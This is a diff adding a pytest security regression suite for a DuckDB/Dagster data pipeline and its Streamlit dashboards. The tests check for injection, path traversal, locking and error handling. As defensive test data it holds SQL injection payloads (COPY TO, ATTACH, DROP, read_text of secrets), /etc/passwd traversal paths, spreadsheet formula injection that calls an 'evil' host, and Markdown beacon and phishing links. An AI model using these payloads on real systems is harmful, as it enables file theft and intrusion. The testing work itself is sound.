@@ -1,0 +1,615 @@
+"""Issue 18: nothing in a source folder runs as code, reads or writes outside it, or leaks a file's
+contents into the warehouse or an error message. Every payload below worked on the code before
+the fix (a mapping value or a CSV header pasted into DuckDB SQL, `files:` outside the folder)."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import duckdb
+import pytest
+
+from revintel_assets.defs.ingest import expr
+from revintel_assets.defs.ingest.errors import SourceError
+from revintel_assets.defs.ingest.source import import_source, lock_down
+
+SECRET = "TOPSECRET-4f1c9e"
+TIDY = ("customer_id,order_date,sku,quantity,amount,Qty,UnitPrice\n"
+        "C1,2024-01-05,S1,2,10.5,2,5.25\n"
+        "C2,2024-02-05,S2,1,3,1,3\n"
+        ",2024-03-05,S3,1,4,1,4\n")  # missing customer_id: quarantined, so raw_row_sql runs
+
+
+@pytest.fixture
+def box(tmp_path) -> dict[str, Path]:
+    """A source folder, a secret file beside it (outside it) and paths a payload would write."""
+    src = tmp_path / "src"
+    src.mkdir()
+    (src / "transactions.csv").write_text(TIDY)
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    secret = outside / "secret.csv"
+    secret.write_text(f"{SECRET},b\n1,2\n")
+    return {"src": src, "secret": secret, "out": tmp_path / "pwned.csv", "db": tmp_path / "other.duckdb",
+            "tmp": tmp_path}
+
+
+def _mapping(src: Path, body: str) -> Path:
+    path = src / "revintel_mapping.yaml"
+    path.write_text(body)
+    return path
+
+
+def _line_of(path: Path, needle: str) -> int:
+    return next(i for i, line in enumerate(path.read_text().splitlines(), 1) if needle in line)
+
+
+def _everything(con) -> str:
+    """Every value of every table of the connection, as text (to look for the secret)."""
+    out = []
+    for schema, table in con.execute("SELECT schema_name, table_name FROM duckdb_tables()").fetchall():
+        out.append(str(con.execute(f'SELECT * FROM "{schema}"."{table}"').fetchall()))
+    return "\n".join(out)
+
+
+def _import(src: Path, con=None):
+    con = con or duckdb.connect()
+    return con, import_source(con, src)
+
+
+def _yaml_str(text: str) -> str:
+    return "'" + text.replace("'", "''") + "'"
+
+
+# -- mapping values are column names or a small grammar, never SQL --------------------------------
+
+PAYLOADS = {
+    "copy_to": "1)::VARCHAR; COPY (SELECT 42) TO '{out}' (FORMAT csv); SELECT (1",
+    "copy_plain": "COPY (SELECT 1) TO '{out}'",
+    "read_text": "(SELECT content FROM read_text('{secret}'))",
+    "attach": "1)::VARCHAR; ATTACH '{db}' AS o; CREATE TABLE o.t AS SELECT 1 AS x; SELECT (1",
+    "drop": "1)::VARCHAR; DROP TABLE staging.raw_tidy; SELECT (1",
+    "comment": "amount --",
+    "other_function": "getenv('HOME')",
+}
+
+
+@pytest.mark.parametrize("name", sorted(PAYLOADS))
+def test_mapping_payload_is_rejected_with_file_and_line(box, name):
+    payload = PAYLOADS[name].format(out=box["out"], secret=box["secret"], db=box["db"])
+    path = _mapping(box["src"], f"layout: tidy\ncolumns:\n  customer_id: customer_id\n"
+                                f"  amount: {_yaml_str(payload)}\n")
+    con = duckdb.connect()
+    with pytest.raises(SourceError) as err:
+        import_source(con, box["src"])
+    assert err.value.path == path and err.value.line == _line_of(path, "amount:") == 4
+    assert "column name" in err.value.expected
+    assert SECRET not in str(err.value)
+    assert not box["out"].exists() and not box["db"].exists()
+    assert SECRET not in _everything(con)
+
+
+def test_expression_grammar_still_maps_real_exports(box):
+    """`Quantity * UnitPrice` (the README's example; before the fix it failed on the all-text staging
+    table) and the Online Retail mapping's try_cast form give the same amounts."""
+    for value in ("Qty * UnitPrice", "try_cast(Qty AS DOUBLE) * try_cast(UnitPrice AS DOUBLE)",
+                  '"Qty" * ("UnitPrice" + 0) / 1'):
+        _mapping(box["src"], f"layout: tidy\ncolumns:\n  amount: {_yaml_str(value)}\n")
+        con, _ = _import(box["src"])
+        assert con.execute("SELECT customer_id, amount FROM staging.transactions ORDER BY 1").fetchall() == \
+            [("C1", 10.5), ("C2", 3.0)], value
+
+
+def test_expression_compiles_to_quoted_identifiers_only():
+    assert expr.compile_expr("Quantity * UnitPrice") == \
+        '(try_cast("Quantity" AS DOUBLE) * try_cast("UnitPrice" AS DOUBLE))'
+    assert expr.compile_expr('-"a""b" + 1.5e2') == '((- try_cast("a""b" AS DOUBLE)) + 150.0)'
+    assert expr.compile_expr("a -- b") == '(try_cast("a" AS DOUBLE) - (- try_cast("b" AS DOUBLE)))'  # not a comment
+    for bad in ("a; DROP TABLE x", "read_text('x')", "a /* x */", "(a", "a b", "try_cast(a AS BLOB)",
+                "x'41'", "a::VARCHAR", "$1", "a\nb", "1e999"):
+        with pytest.raises(expr.ExprError):
+            expr.compile_expr(bad)
+    with pytest.raises(expr.ExprError, match="no column 'nope'"):
+        expr.compile_expr("nope * 2", ["a"])
+
+
+def test_unknown_column_in_expression_names_mapping_line(box):
+    path = _mapping(box["src"], "layout: tidy\ncolumns:\n  quantity: Qty\n  amount: Qty * Price\n")
+    with pytest.raises(SourceError) as err:
+        _import(box["src"])
+    assert err.value.path == path and err.value.line == 4 and "no column 'Price'" in str(err.value)
+
+
+def test_header_names_with_spaces_and_brackets_still_map(box):
+    (box["src"] / "transactions.csv").write_text(
+        "Customer No,order_date,sku,quantity,Amount (EUR)\nC1,2024-01-05,S1,2,10.5\n")
+    _mapping(box["src"], "columns:\n  customer_id: Customer No\n  amount: Amount (EUR)\n")
+    con, _ = _import(box["src"])
+    assert con.execute("SELECT customer_id, amount FROM staging.transactions").fetchall() == [("C1", 10.5)]
+
+
+# -- files: stay inside the source folder ---------------------------------------------------------
+
+def _crm(src: Path, target: str) -> Path:
+    return _mapping(src, f"files:\n  sales_pipeline.csv: {_yaml_str(target)}\n")
+
+
+@pytest.mark.parametrize("kind", ["dotdot", "etc_passwd", "absolute"])
+def test_files_entry_outside_the_folder_is_refused(box, kind):
+    src = box["src"]
+    target = {"dotdot": "../outside/secret.csv",
+              "etc_passwd": "../" * len(src.resolve().parts) + "etc/passwd",
+              "absolute": str(box["secret"])}[kind]
+    path = _crm(src, target)
+    con = duckdb.connect()
+    with pytest.raises(SourceError) as err:
+        import_source(con, src)
+    assert err.value.path == path and err.value.line == 2
+    assert "inside the source folder" in err.value.expected
+    message = str(err.value)
+    assert SECRET not in message and "root:" not in message
+    assert SECRET not in _everything(con)
+
+
+def test_symlink_out_of_the_folder_is_refused(box):
+    (box["src"] / "transactions.csv").unlink()
+    (box["src"] / "sales_pipeline.csv").symlink_to(box["secret"])
+    con = duckdb.connect()
+    with pytest.raises(SourceError) as err:
+        import_source(con, box["src"])
+    assert "sales_pipeline.csv" in str(err.value) and SECRET not in str(err.value)
+    assert SECRET not in _everything(con)
+
+
+def test_files_entry_inside_the_folder_still_works(box):
+    (box["src"] / "exports").mkdir()
+    (box["src"] / "transactions.csv").rename(box["src"] / "exports" / "tx_2024.csv")
+    _mapping(box["src"], "layout: tidy\nfiles:\n  transactions.csv: exports/tx_2024.csv\n")
+    con, report = _import(box["src"])
+    assert con.execute("SELECT count(*) FROM staging.transactions").fetchone()[0] == 2
+
+
+# -- a CSV header is data ------------------------------------------------------------------------
+
+@pytest.mark.parametrize("header", [
+    'a") || read_text(\'/etc/hostname\') || ("',             # the issue's payload
+    'x", (SELECT content FROM read_text(\'{secret}\'))) || coalesce("x',  # one that worked
+])
+def test_hostile_csv_header_stays_a_name(box, header):
+    header = header.format(secret=box["secret"])
+    quoted = '"' + header.replace('"', '""') + '"'
+    (box["src"] / "transactions.csv").write_text(
+        f"customer_id,order_date,sku,quantity,amount,x,{quoted}\n"
+        "C1,2024-01-05,S1,2,10.5,,v\n"
+        ",2024-03-05,S3,1,4,,w\n")
+    con, report = _import(box["src"])
+    rows = con.execute("SELECT line_number, raw_row, reason FROM staging.quarantine_new").fetchall()
+    assert rows == [(3, ",2024-03-05,S3,1,4,,w", "customer_id is empty: the line cannot be attributed to an account")]
+    hostname = Path("/etc/hostname").read_text().strip() if Path("/etc/hostname").exists() else SECRET
+    everything = _everything(con)
+    assert SECRET not in everything
+    assert hostname not in everything.replace(header, "")
+
+
+# -- the second door: the import connection cannot touch other files ------------------------------
+
+def test_import_connection_is_locked_down(box, monkeypatch):
+    """Even SQL that slipped past the grammar cannot write, read or attach outside the folder."""
+    con = duckdb.connect()
+    lock_down(con, box["src"])
+    assert con.execute(f"SELECT count(*) FROM read_csv('{box['src'] / 'transactions.csv'}')").fetchone()[0] == 3
+    for sql in (f"COPY (SELECT 1) TO '{box['out']}'", f"SELECT * FROM read_text('{box['secret']}')",
+                f"ATTACH '{box['db']}' AS o", "SET enable_external_access = true",
+                "SET allowed_directories = ['/']", "SET lock_configuration = false",
+                f"SELECT * FROM read_text('{box['src']}/../outside/secret.csv')"):
+        with pytest.raises(duckdb.Error):
+            con.execute(sql)
+    assert not box["out"].exists() and not box["db"].exists()
+
+    # a compiler bug that let SQL through: the import still cannot write outside
+    monkeypatch.setattr(expr, "compile_expr", lambda text, available=None:
+                        f"1)::VARCHAR; COPY (SELECT 42) TO '{box['out']}'; SELECT (1")
+    _mapping(box["src"], "layout: tidy\ncolumns:\n  amount: Qty * UnitPrice\n")
+    with pytest.raises((SourceError, duckdb.Error)):
+        import_source(duckdb.connect(), box["src"])
+    assert not box["out"].exists()
+
+
+# -- one run per data directory ---------------------------------------------------------------------
+
+REPO = Path(__file__).resolve().parents[1]
+
+
+def _cli_env(data: Path) -> dict[str, str]:
+    import os
+
+    env = {k: v for k, v in os.environ.items()
+           if k not in ("DAGSTER_HOME", "REVINTEL_AS_OF", "REVINTEL_SOURCE", "REVINTEL_MAPPING")}
+    return {**env, "REVINTEL_DATA_DIR": str(data), "PYTHONPATH": str(REPO)}
+
+
+def _tidy_source(folder: Path, customers: int = 3) -> Path:
+    folder.mkdir(parents=True)
+    rows = [f"C{c},2024-{m:02d}-05,S{c % 2},1,{10 + c}" for c in range(customers) for m in range(1, 13)]
+    (folder / "transactions.csv").write_text("customer_id,order_date,sku,quantity,amount\n" + "\n".join(rows) + "\n")
+    return folder
+
+
+def test_second_run_on_one_data_dir_refuses_at_once(tmp_path):
+    """Two real `revintel run` processes on one data directory with different sources: the second
+    exits 3 with one line naming the first one's pid; when the first dies (SIGKILL) the lock is free."""
+    import os
+    import signal
+    import subprocess
+    import sys
+    import time
+
+    from revintel_resources.runlock import run_lock
+
+    data = tmp_path / "data"
+    cmd = [sys.executable, "-m", "revintel_assets.cli", "run", "--no-serve", "--source"]
+    first = subprocess.Popen(cmd + [str(_tidy_source(tmp_path / "a"))], cwd=REPO, env=_cli_env(data),
+                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
+    try:
+        deadline = time.monotonic() + 120
+        lock = data / ".run.lock"
+        while not (lock.exists() and lock.read_text().startswith(f"pid {first.pid},")):
+            assert first.poll() is None and time.monotonic() < deadline, "the first run never took the lock"
+            time.sleep(0.2)
+        start = time.monotonic()
+        second = subprocess.run(cmd + [str(_tidy_source(tmp_path / "b"))], cwd=REPO, env=_cli_env(data),
+                                capture_output=True, text=True, timeout=120)
+        took = time.monotonic() - start
+        assert first.poll() is None, "the first run ended before the second was tried"
+    finally:
+        os.killpg(first.pid, signal.SIGKILL)
+        first.wait()
+    assert second.returncode == 3, second.stderr[-2000:]
+    lines = second.stderr.strip().splitlines()
+    assert len(lines) == 1 and lines[0].startswith("revintel: another revintel run (pid ") \
+        and f"pid {first.pid}," in lines[0], second.stderr
+    assert "Traceback" not in second.stderr and "materializing" not in second.stdout
+    assert took < 60
+    with run_lock(data):  # the kernel dropped the killed run's lock
+        pass
+
+
+# -- a copied data directory is independent of its original -----------------------------------------
+
+def _snapshot(root: Path) -> dict[str, str]:
+    import hashlib
+
+    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(root.rglob("*")) if p.is_file()}
+
+
+def test_copied_data_dir_writes_only_into_itself(tmp_path):
+    """Dagster (dagster.yaml base_dirs) and MLflow (artifact locations of experiments, runs,
+    logged models, model versions) of a copy write into the copy; the original is untouched."""
+    import shutil
+
+    import dagster as dg
+    import mlflow.pyfunc
+
+    from revintel_resources.instance import ensure_dagster_home
+    from revintel_resources.tracking import MLflowResource
+
+    class Constant(mlflow.pyfunc.PythonModel):
+        def predict(self, context, model_input, params=None):
+            return [1] * len(model_input)
+
+    @dg.op
+    def step():
+        return 1
+
+    @dg.job
+    def tiny():
+        step()
+
+    def use(data: Path, tag: str) -> str:
+        instance = dg.DagsterInstance.from_config(str(ensure_dagster_home(data / "dagster_home")))
+        try:
+            assert tiny.execute_in_process(instance=instance, tags={"which": tag}).success
+        finally:
+            instance.dispose()
+        ml = MLflowResource(data_dir=str(data))
+        with ml.run("relocation", f"run {tag}") as run:
+            run.log_features(["a", tag])
+            uri = run.log_model(Constant())
+        version = ml.register(uri, "revintel-relocation", tags={"run_id": run.run_id})
+        ml.set_alias("revintel-relocation", "champion", version)
+        assert ml.load_model("models:/revintel-relocation@champion").predict([0, 0]) == [1, 1]
+        return run.run_id
+
+    original, copy = tmp_path / "original", tmp_path / "copy"
+    use(original, "first")
+    shutil.copytree(original, copy)
+    before = _snapshot(original)
+    run_id = use(copy, "second")
+    assert _snapshot(original) == before
+    assert any(run_id in str(p) for p in (copy / "mlflow" / "artifacts").rglob("features.json"))
+    assert str(original) not in (copy / "dagster_home" / "dagster.yaml").read_text()
+    import sqlite3
+
+    con = sqlite3.connect(copy / "mlflow" / "mlflow.db")
+    stored = str(con.execute("SELECT group_concat(artifact_location) FROM experiments").fetchall()
+                 + con.execute("SELECT group_concat(artifact_uri) FROM runs").fetchall()
+                 + con.execute("SELECT group_concat(storage_location) FROM model_versions").fetchall())
+    con.close()
+    assert str(original) not in stored and str(copy) in stored
+    assert "mlruns" not in stored  # the Default experiment lives under the data directory too
+
+
+# -- clean failures ------------------------------------------------------------------------------
+
+def test_utf16_exports_are_read_not_called_binary(box):
+    """Excel's 'Unicode text' is UTF-16 LE: read (with or without BOM), same rows as UTF-8;
+    big-endian is named as UTF-16 (before: 'binary content ... a spreadsheet or archive')."""
+    (box["src"] / "transactions.csv").unlink()
+    utf8 = TIDY.replace("S2", "Sé")
+    expected = None
+    for enc in ("utf-8", "utf-16", "utf-16-le"):
+        (box["src"] / "transactions.csv").write_bytes(utf8.encode(enc))
+        con, report = _import(box["src"])
+        got = (con.execute("SELECT * EXCLUDE (source_file) FROM staging.transactions ORDER BY _line").fetchall(),
+               con.execute("SELECT line_number, raw_row, reason FROM staging.quarantine_new").fetchall())
+        expected = expected or got
+        assert got == expected and ("C2", "Sé") in [(r[0], r[3]) for r in got[0]], enc
+    (box["src"] / "transactions.csv").write_bytes(b"\xfe\xff" + utf8.encode("utf-16-be"))
+    with pytest.raises(SourceError, match="UTF-16 big-endian; save it as UTF-8") as err:
+        _import(box["src"])
+    assert "binary" not in str(err.value)
+
+
+def test_first_source_error_in_the_chain_wins():
+    from revintel_assets.cli import _root_cause
+
+    class StepError(Exception):  # as Dagster wraps a step's exception
+        def __init__(self, user_exception):
+            super().__init__("step failed")
+            self.user_exception = user_exception
+
+    try:
+        try:
+            raise OSError(5, "library failure")
+        except OSError as exc:
+            raise SourceError("f.csv", 3, "a CSV", "unreadable") from exc
+    except SourceError as exc:
+        wrapped = StepError(exc)
+        wrapped.__cause__ = exc
+    assert isinstance(_root_cause(wrapped), SourceError)
+    assert isinstance(_root_cause(StepError(ValueError("x"))), ValueError)
+
+
+def _cli(args: list[str], data: Path, timeout: float = 300):
+    import subprocess
+    import sys
+
+    return subprocess.run([sys.executable, "-m", "revintel_assets.cli", *args], cwd=REPO, env=_cli_env(data),
+                          capture_output=True, text=True, timeout=timeout)
+
+
+def test_source_error_from_a_library_error_exits_2(tmp_path):
+    """A SourceError raised from DuckDB's error (here: a delimiter DuckDB refuses) is the one
+    line the user sees, exit 2 (before: exit 1 and DuckDB's traceback)."""
+    src = _tidy_source(tmp_path / "src")
+    (src / "revintel_mapping.yaml").write_text("delimiter: '\"'\n")
+    proc = _cli(["run", "--no-serve", "--source", str(src)], tmp_path / "data")
+    assert proc.returncode == 2, proc.stderr[-3000:]
+    lines = [line for line in proc.stderr.splitlines() if line.startswith("revintel:")]
+    assert len(lines) == 1 and lines[0].startswith("revintel: cannot import the source: ") \
+        and "transactions.csv, line 1" in lines[0], proc.stderr[-3000:]
+    assert "Traceback" not in proc.stderr and "Stack Trace" not in proc.stderr
+
+
+def test_storage_failure_is_one_line_exit_1(monkeypatch, capsys):
+    """Simulated: a step fails with ENOSPC (as Dagster wraps it) -> one line, exit 1."""
+    import errno
+
+    import revintel_assets.definitions as definitions
+    import revintel_assets.orchestrate as orchestrate
+    from revintel_assets import cli
+
+    class StepError(Exception):
+        def __init__(self, user_exception):
+            super().__init__("step failed")
+            self.user_exception = user_exception
+
+    def full(*args, **kwargs):
+        raise StepError(OSError(errno.ENOSPC, "No space left on device", "/data/warehouse/.work/x.wal"))
+
+    monkeypatch.setattr(definitions, "load", lambda: None)
+    monkeypatch.setattr(orchestrate, "materialize_all", full)
+    assert cli.main(["run", "--no-serve", "--source", str(REPO)]) == 1
+    err = capsys.readouterr().err.strip().splitlines()
+    assert len(err) == 1 and "the disk is full" in err[0] and "unchanged" in err[0], err
+
+    def duck(*args, **kwargs):
+        raise StepError(duckdb.IOException('IO Error: Could not write file "x.duckdb": Read-only file system'))
+
+    monkeypatch.setattr(orchestrate, "materialize_all", duck)
+    assert cli.main(["run", "--no-serve", "--source", str(REPO)]) == 1
+    err = capsys.readouterr().err.strip().splitlines()
+    assert len(err) == 1 and "read-only" in err[0], err
+
+
+@pytest.mark.parametrize("case", ["full", "read_only"])
+def test_real_full_disk_and_read_only_warehouse(tmp_path, case):
+    """A small tmpfs as the data directory (disk full) or a read-only one as its warehouse/, where
+    this machine lets the test mount one: one `revintel:` line, exit 1, no traceback."""
+    import subprocess
+
+    data = tmp_path / "data"
+    mnt = data if case == "full" else data / "warehouse"
+    mnt.mkdir(parents=True)
+    opts = "size=3m" if case == "full" else "ro,size=64k"
+    if subprocess.run(["mount", "-t", "tmpfs", "-o", opts, "tmpfs", str(mnt)], capture_output=True).returncode:
+        pytest.skip("cannot mount a tmpfs here (not root?); test_storage_failure_is_one_line_exit_1 simulates it")
+    try:
+        proc = _cli(["run", "--no-serve", "--source", str(_tidy_source(tmp_path / "src"))], data)
+    finally:
+        subprocess.run(["umount", str(mnt)], check=True)
+    assert proc.returncode == 1, proc.stderr[-3000:]
+    lines = [line for line in proc.stderr.splitlines() if line.startswith("revintel:")]
+    assert "Traceback" not in proc.stderr, proc.stderr[-3000:]
+    assert len(lines) == 1 and lines[0].startswith("revintel: cannot write the data directory") and \
+        ("disk is full" if case == "full" else "read-only") in lines[0], lines
+
+
+def test_over_long_line_names_the_line_and_the_limit(box):
+    """A 5 MB field: before, 'CSV Error on Line: 1' (DuckDB's first message line, wrong line)."""
+    (box["src"] / "transactions.csv").write_text(
+        "customer_id,order_date,sku,quantity,amount\nC1,2024-01-05,S1,2,10.5\n"
+        f"C2,2024-01-05,{'x' * (5 << 20)},2,10.5\nC3,2024-01-05,S1,2,10.5\n")
+    with pytest.raises(SourceError) as err:
+        _import(box["src"])
+    assert err.value.line == 3 and "lines of at most 2,000,000 bytes" in err.value.expected
+    assert "xxxx" not in str(err.value) and len(str(err.value)) < 400
+
+
+def test_stale_publish_copy_is_removed_at_the_next_start(tmp_path):
+    from revintel_resources.warehouse import Warehouse
+
+    wh = Warehouse(tmp_path / ".work" / "w.duckdb", tmp_path / ".work" / "writer.lock", tmp_path / "revintel.duckdb")
+    wh.execute("CREATE TABLE t AS SELECT 1 AS x")
+    wh.publish()
+    stale = tmp_path / ".revintel.duckdb.999999.deadbeef.tmp"  # a publish killed before its rename
+    stale.write_bytes(b"x" * 1000)
+    assert wh.remove_stale_publish_files() == [stale] and not stale.exists()
+    stale.write_bytes(b"x")
+    wh.publish()
+    assert not stale.exists() and (tmp_path / "revintel.duckdb").exists()
+
+
+def test_run_killed_before_it_started_is_marked_failed(tmp_path):
+    import subprocess
+    import sys
+
+    import dagster as dg
+
+    from revintel_resources.instance import PID_TAG, ensure_dagster_home, recover_dead_runs
+
+    @dg.op
+    def step():
+        return 1
+
+    @dg.job
+    def tiny():
+        step()
+
+    dead = subprocess.Popen([sys.executable, "-c", "pass"])
+    dead.wait()
+    instance = dg.DagsterInstance.from_config(str(ensure_dagster_home(tmp_path / "dagster_home")))
+    try:
+        run = instance.create_run_for_job(job_def=tiny, tags={PID_TAG: str(dead.pid)})
+        untagged = instance.create_run_for_job(job_def=tiny)  # e.g. the UI's: not ours to judge
+        assert instance.get_run_by_id(run.run_id).status == dg.DagsterRunStatus.NOT_STARTED
+        assert recover_dead_runs(instance) == [run.run_id]
+        assert instance.get_run_by_id(run.run_id).status == dg.DagsterRunStatus.FAILURE
+        assert instance.get_run_by_id(untagged.run_id).status == dg.DagsterRunStatus.NOT_STARTED
+    finally:
+        instance.dispose()
+
+
+def test_motherduck_token_is_not_in_repr():
+    from revintel_resources.backends import Backend
+    from revintel_resources.settings import Settings
+
+    token = "md-token-5ecret"
+    backend = Backend("motherduck", database="md:revintel", config={"motherduck_token": token}, local_file=False)
+    assert token not in repr(backend) and token not in str(backend) and "md:revintel" in repr(backend)
+    settings = Settings(motherduck_token=token)
+    assert settings.motherduck_token == token and token not in repr(settings) and token not in str(settings)
+
+
+def test_division_that_cannot_be_a_partition_key_stops_the_import(box):
+    """Before: imported, and the run failed at step 7 (icp) after six steps published nothing."""
+    (box["src"] / "sku_map.csv").write_text("sku,division\nS1,Hardware\nS2,Hard|ware\n")
+    with pytest.raises(SourceError) as err:
+        _import(box["src"])
+    assert err.value.path.name == "sku_map.csv" and err.value.line == 3 and "Hard|ware" in str(err.value)
+
+
+# -- safe outputs ----------------------------------------------------------------------------------
+
+def test_csv_downloads_neutralise_formulas():
+    import polars as pl
+
+    from dashboards import safe
+
+    df = pl.DataFrame({"account": ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
+                                   "-2+3", "\tx", "Acme - West", "O'Neil"],
+                       "amount": [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0]})
+    out = pl.read_csv(safe.csv_bytes(df))
+    assert out["account"].to_list() == ["'=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "'+cmd|' /C calc'!A0",
+                                        "'@SUM(A1:A9)", "'-2+3", "'\tx", "Acme - West", "O'Neil"]
+    assert out["amount"].to_list() == df["amount"].to_list()  # numbers are not text
+
+
+def test_every_dashboard_download_goes_through_the_neutraliser():
+    views = REPO / "dashboards"
+    offenders = [str(p.relative_to(REPO)) for p in views.rglob("*.py")
+                 if "download_button" in p.read_text() and "write_csv()" in p.read_text()]
+    assert offenders == []
+
+
+def test_streamlit_binds_localhost_and_hides_tracebacks():
+    import tomllib
+
+    config = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text())
+    assert config["server"]["address"] == "127.0.0.1"
+    assert config["client"]["showErrorDetails"] == "none"
+
+
+def test_markdown_escaping_keeps_text_and_drops_syntax():
+    from dashboards.safe import code, md
+
+    payload = "![b](http://evil.example/beacon.png) [verify](http://phish.example) :red[x] $x$ www.evil.example"
+    escaped = md(payload)
+    assert "](" not in escaped and "http://" not in escaped and "www.evil" not in escaped
+    assert escaped.replace("\\", "").replace("\u200b", "") == payload  # shown as written
+    assert md("Acme\n# Header") == r"Acme \# Header"
+    assert code("a`b") == "`` a`b ``" and code("x") == "` x `"
+
+
+@pytest.mark.browser
+def test_deal_page_shows_hostile_data_and_url_as_text(tmp_path):
+    """An account name, a recommended action and a ?deal= parameter written as Markdown image and
+    link: shown as text, no <img> or <a> to them in the page (before: an image beacon and a
+    phishing link rendered)."""
+    from urllib.parse import quote
+
+    from browser import build_analyst_db, chromium, streamlit_server
+    from test_deal_pages import AS_OF, FIXTURE, open_page
+
+    beacon, phish = "http://127.0.0.1:9/beacon.png", "http://phish.example/login"
+    name = f"Cancore ![b]({beacon}) [verify account]({phish})"
+    data_dir = tmp_path / "data"
+    build_analyst_db(data_dir, extra_sql=[
+        *FIXTURE,
+        f"UPDATE star.dim_account SET account_name = '{name}' WHERE account_id = 'A3'",
+        f"UPDATE scores.deal_scores SET recommended_action = '[Call now]({phish})' WHERE opportunity_id = 'O6'"])
+    wanted = quote(f"x` ![b]({beacon}) [click]({phish}) `y")
+    with streamlit_server(data_dir) as url, chromium() as browser:
+        ctx = browser.new_context()
+        page = ctx.new_page()
+        try:
+            for path, expect in ((f"deal-detail?as_of={AS_OF}&deal=O6", "What moved the win probability"),
+                                 (f"deal-detail?as_of={AS_OF}&deal={wanted}", "is not among the deals open")):
+                for _ in range(2):  # the first visit may show "Page not found" (streamlit#9992)
+                    page.goto(f"{url}/{path}", wait_until="domcontentloaded")
+                    page.wait_for_selector(f"text={expect}", timeout=60_000)
+                    if not page.locator("[role='dialog']", has_text="Page not found").count():
+                        break
+                links = page.evaluate("() => [...document.querySelectorAll('a[href], img[src]')]"
+                                      ".map(e => e.href || e.src)")
+                assert not [h for h in links if h.startswith((beacon, phish))], links
+                text = page.locator("body").inner_text().replace("\u200b", "")
+                assert "Traceback" not in text
+            assert f"[click]({phish})" in text  # the URL parameter, as text
+        finally:
+            ctx.close()
+        _, text, _ = open_page(browser, url, f"deal-detail?as_of={AS_OF}&deal=O6", name="deal_hostile",
+                               expect_text="What moved the win probability")
+        text = text.replace("\u200b", "")
+        assert f"[verify account]({phish})" in text and f"[Call now]({phish})" in text
